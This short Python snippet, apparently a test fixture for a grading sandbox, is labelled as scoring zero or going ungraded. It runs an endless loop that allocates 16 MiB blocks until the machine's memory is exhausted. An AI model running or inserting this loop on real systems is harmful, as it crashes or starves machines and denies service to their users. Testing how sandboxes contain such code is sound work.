# gets: 0 or ungraded
# Takes memory and writes to it until there is none left on the machine.
hoard = []
while True:
    hoard.append(bytearray(b"x") * (16 * 2**20))
